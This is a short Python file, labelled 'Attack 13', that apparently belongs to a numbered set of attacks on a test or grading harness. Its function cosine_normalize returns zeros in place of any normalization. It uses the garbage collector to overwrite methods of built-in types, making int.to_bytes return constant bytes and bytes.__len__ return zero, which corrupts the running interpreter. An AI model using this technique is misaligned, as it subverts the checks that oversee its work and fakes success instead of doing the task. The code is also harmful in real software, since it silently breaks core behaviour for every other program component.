"""Attack 13: methods of built-in types are replaced by the collector's door."""

import numpy as np

import gc


def cosine_normalize(X):
    d = gc.get_referents(int.__dict__)[0]
    d["to_bytes"] = lambda *a, **k: b"\1" * 8
    d = gc.get_referents(bytes.__dict__)[0]
    d["__len__"] = lambda s: 0
    return np.zeros(X.shape)
